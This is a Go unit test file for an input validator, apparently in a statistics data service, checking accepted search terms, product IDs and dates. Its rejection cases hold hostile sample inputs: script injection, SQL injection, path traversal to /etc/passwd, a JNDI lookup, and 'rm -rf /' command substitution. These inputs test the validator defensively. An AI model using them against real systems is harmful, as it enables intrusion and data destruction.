package validation

import "testing"

func TestValidateInputAccepted(t *testing.T) {
	v := NewInputValidator()

	valid := []string{
		"consumer price index",
		"Investissement en construction",
		"dépenses alimentaires",
		"labour force 15+",
		"gdp, chained 2017 dollars",
	}

	for _, input := range valid {
		if err := v.ValidateInput(input); err != nil {
			t.Errorf("ValidateInput(%q) = %v, want nil", input, err)
		}
	}
}

func TestValidateInputRejected(t *testing.T) {
	v := NewInputValidator()

	invalid := []struct {
		name  string
		input string
	}{
		{"empty", ""},
		{"whitespace only", "   "},
		{"script tag", "<script>alert(1)</script>"},
		{"sql injection", "' OR 1=1 --"},
		{"union select", "prices UNION SELECT password"},
		{"path traversal", "../../etc/passwd"},
		{"template injection", "${jndi:ldap://evil}"},
		{"command substitution", "$(rm -rf /)"},
		{"too long", string(make([]byte, 201))},
		{"angle brackets", "a<b"},
	}

	for _, tc := range invalid {
		t.Run(tc.name, func(t *testing.T) {
			if err := v.ValidateInput(tc.input); err == nil {
				t.Errorf("ValidateInput(%q) = nil, want error", tc.input)
			}
		})
	}
}

func TestValidateProductID(t *testing.T) {
	v := NewInputValidator()

	tests := []struct {
		input   string
		want    int
		wantErr bool
	}{
		{"34100292", 34100292, false},
		{"18100004", 18100004, false},
		{" 14100287 ", 14100287, false},
		{"", 0, true},
		{"abc", 0, true},
		{"-3410029", 0, true},
		{"0", 0, true},
		{"341002920", 0, true}, // 9 digits
		{"3410029", 0, true},   // 7 digits
		{"34100292; DROP", 0, true},
	}

	for _, tc := range tests {
		got, err := v.ValidateProductID(tc.input)
		if tc.wantErr {
			if err == nil {
				t.Errorf("ValidateProductID(%q) = %d, nil; want error", tc.input, got)
			}
			continue
		}
		if err != nil {
			t.Errorf("ValidateProductID(%q) error: %v", tc.input, err)
			continue
		}
		if got != tc.want {
			t.Errorf("ValidateProductID(%q) = %d, want %d", tc.input, got, tc.want)
		}
	}
}

func TestValidateDate(t *testing.T) {
	v := NewInputValidator()

	if err := v.ValidateDate(""); err != nil {
		t.Errorf("empty date should be accepted: %v", err)
	}
	if err := v.ValidateDate("2024-01-31"); err != nil {
		t.Errorf("ValidateDate(2024-01-31) = %v, want nil", err)
	}
	for _, bad := range []string{"2024-13-01", "31-01-2024", "2024/01/31", "yesterday"} {
		if err := v.ValidateDate(bad); err == nil {
			t.Errorf("ValidateDate(%q) = nil, want error", bad)
		}
	}
}
